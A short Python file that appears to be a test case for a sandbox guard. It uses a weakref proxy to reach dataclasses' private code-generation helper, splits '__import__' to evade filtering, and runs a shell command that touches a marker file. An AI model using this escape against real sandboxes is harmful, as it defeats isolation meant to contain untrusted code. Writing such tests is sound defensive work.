# family: module internals through a weakref proxy (the attribute guard's fast path)
# goal: read dataclasses' private exec helper through a proxy, which passes for a module in isinstance()
import dataclasses
import json
import weakref

print(weakref.proxy(json).dumps([1]))  # the guard has now seen the proxy type
helper = weakref.proxy(dataclasses)._create_fn
f = helper("f", "", ["return __imp" + "ort__('os').system('touch __MARKER_PATH__')"])
f()
